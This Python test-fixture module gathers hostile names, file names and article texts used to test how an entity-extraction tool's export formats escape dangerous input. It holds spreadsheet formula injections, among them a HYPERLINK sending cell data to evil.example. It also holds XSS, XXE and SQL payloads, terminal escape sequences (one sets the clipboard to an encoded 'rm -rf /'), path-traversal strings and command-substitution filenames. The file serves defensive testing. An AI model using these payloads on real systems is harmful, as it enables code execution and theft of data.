r"""What an attack, a scan or an accident puts into names, file names and articles; shared by the tests of every format.

`NAMES` are spellings that a table may hold, by what they try. `FILES` are names of files and ids of articles. `TEXTS`
are whole articles. Every one holds at least one letter. `article_of` makes an article of names, with their mentions.
"""

from collections.abc import Iterable
from typing import Final

from entities.model import Alias, Article, Entity, Mention, NameType

FORMULAS: Final = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Lee")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1 Lee",
    "return": "\r=1+1 Lee",
    "wide": "＝1+1 Lee",
    "apostrophe": "'=1+1 Lee",
}
"""What spreadsheets would run."""

MARKUP: Final = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(2)>',
    "quote": "' onmouseover='alert(3)",
    "svg": "<svg/onload=alert(4)>",
    "link": "javascript:alert(5)//Lee",
    "comment": "--><!--]]><![CDATA[Lee",
    "entity": "&lt;b&gt;Lee&#x27;&amp;",
    "template": "{{7*7}}{% raw %}Lee{% endraw %}${7*7}",
    "markdown": "[Lee](javascript:alert(6)) | **x** `y` _z_",
    "rich": "[bold red]Lee[/] [link=http://evil.example]x[/link] :smile:",
    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;Lee',
    "turtle": 'Lee""" . <http://evil.example/s> <http://evil.example/p> "\\u0041',
    "tex": "\\input{/etc/passwd} Lee & 5% #1 $x$ ~^_{}",
    "sql": "Robert'); DROP TABLE people;--",
    "json": 'Lee", "text": "x\\',
}
"""What browsers, templates and other languages would run."""

TERMINAL: Final = {
    "colour": "\x1b[31mLee\x1b[0m",
    "title": "\x1b]0;owned\x07Lee",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07Lee",
    "link": "\x1b]8;;http://evil.example\x1b\\Lee\x1b]8;;\x1b\\",
    "c1": "\x9b31mLee\x9c",
    "erase": "Lee\x08\x08\x08Kim\x7f",
    "overwrite": "Lee\rKim",
    "bell": "Lee\x07\x0e\x0f",
}
"""What terminals would obey."""

UNICODE: Final = {
    "astral": "𝒜nn 𠮷田 😀 Lee",
    "decomposed": "Jose\u0301 Nu\u0303n\u0303ez",
    "storm": "L" + "\u0301\u0323\u0489" * 40 + "ee",
    "override": "\u202eeeL\u202c",
    "isolate": "\u2067Lee\u2069 \u2066Kim",
    "mixed": "Lee محمد علي 金正恩 כהן",
    "invisible": "L\u200be\u200de\u2060\ufeff",
    "private": "Lee\ue000\U000f0000",
    "noncharacter": "Lee\ufffe\uffff\U0010ffff",
    "null": "Lee\x00Kim",
    "lines": "Lee\r\nIl-gyu",
    "separators": "Lee\u2028Il\u2029gyu\x85x\x0b\x0c",
    "variation": "Lee\ufe0f\U000e0100\U000e0041",
    "upside": "ǝǝ˥ ﬀ ſ İ ı ẞ",
    "quotes": "‘Abd al-Rahmān “Lee” «Kim» 'x' \"y\"",
}
"""What code that thinks in bytes, UTF-16 or glyphs gets wrong."""

NAMES: Final[dict[str, str]] = {
    f"{group}: {key}": text
    for group, texts in {"formula": FORMULAS, "markup": MARKUP, "terminal": TERMINAL, "unicode": UNICODE}.items()
    for key, text in texts.items()
}
"""Every spelling above, by what it tries."""

SURROGATES: Final = "Lee\ud800 Kim\udfff"
"""Lone surrogates: a text of Python may hold them, no file can."""

FILES: Final[dict[str, str]] = {
    "up": "../../../../etc/passwd",
    "windows": "..\\..\\windows\\win.ini",
    "root": "/etc/passwd",
    "device": "con",
    "dots": "..",
    "empty": "",
    "blank": " ",
    "null": "a\x00b",
    "option": "--output=/tmp/owned",
    "home": "~/.ssh/authorized_keys",
    "variable": "$(touch owned)`touch owned`;touch owned",
    "long": "a" * 5_000,
    "line": "a\nb\r\nc",
    "escape": "\x1b[2Jx",
    "markup": "<img src=x onerror=alert(1)>",
    "formula": "=1+1",
    "percent": "%2e%2e%2fetc%2fpasswd",
    "turned": "\u202egpj.exe",
}
"""Ids of articles and names of files that want to be somewhere else, or something else."""

TEXTS: Final[dict[str, str]] = {
    "blanks": " \n\t\r\n\u2003\u2028 x",
    "controls": "".join(map(chr, range(32))) + "Lee met Kim." + "".join(map(chr, range(127, 160))),
    "one word": "Lee" * 3_000,
    "one letter": "L" * 10_000,
    "capitals": "LEE MET KIM IN SEOUL. " * 100,
    "repeated": "Kim " * 3_000,
    "list": ", ".join(f"Lee{number} Kim{number}" for number in range(100)),
    "quotes": "“‘" * 150 + "Lee said" + "’”" * 150,
    "brackets": "([{<" * 100 + "Lee" + ">}])" * 100,
    "hyphens": "Lee" + "-Kim" * 300,
    "dots": "J. " * 1_000 + "Lee",
    "apostrophes": "O'" * 1_000 + "Lee's",
    "storm": "Lee" + "\u0301" * 3_000 + " met Kim.",
    "turns": "\u202e\u2066\u2067" * 300 + "Lee met Kim.",
    "crlf": "Lee met Kim.\r\n\r\nKim met Lee in Seoul.\r\n" * 30,
    "old mac": "Lee met Kim.\rKim met Lee in Seoul.\r" * 30,
    "astral": "𝒜𝓃𝓃 met Lee 😀 in Seoul 🇰🇷. " * 50,
    "decomposed": "Jose\u0301 Nu\u0303n\u0303ez met Je\u0301ro\u0302me in Bogota\u0301. " * 30,
    "right to left": "التقى محمد علي بالوزير Lee في القاهرة. " * 30,
    "markup": " met ".join(MARKUP.values()),
    "escapes": " met ".join(TERMINAL.values()),
    "formulas": "\n".join(FORMULAS.values()),
    "numbers": "Lee 1" + "0" * 5_000 + " Kim",
    "urls": "http://evil.example/" + "Lee/" * 500 + " met Kim@evil.example",
    "everything": "\n".join(NAMES.values()),
}
"""Whole articles, small enough for a test each."""


def article_of(names: Iterable[str], *, doc_id: str = "hostile", source: str = "hostile.txt") -> Article:
    """An article with each name twice, in two sentences."""
    return Article("".join(f"Then {name} came. And {name} left.\r\n" for name in names), doc_id, source)


def entities_of(article: Article, names: Iterable[str]) -> tuple[Entity, ...]:
    """A row for each name, people and places in turn, with every place where the article has it outside another."""
    rows = []
    taken: list[tuple[int, int]] = []
    for number, name in enumerate(sorted(set(names), key=len, reverse=True)):
        type = (NameType.PERSON, NameType.PLACE)[number % 2]
        found = [(at, at + len(name)) for at in _places(article.text, name)]
        spans = [(s, e) for s, e in found if not any(s < end and start < e for start, end in taken)]
        taken += spans
        if spans:
            mentions = tuple(Mention(s, e, name, type) for s, e in spans)
            rows.append(Entity(f"{number:012x}", type, name, 0.8, True, (Alias(name, len(spans), 0.8),), mentions))
    return tuple(rows)


def _places(text: str, name: str) -> list[int]:
    places = []
    at = text.find(name)
    while at >= 0:
        places.append(at)
        at = text.find(name, at + len(name))
    return places
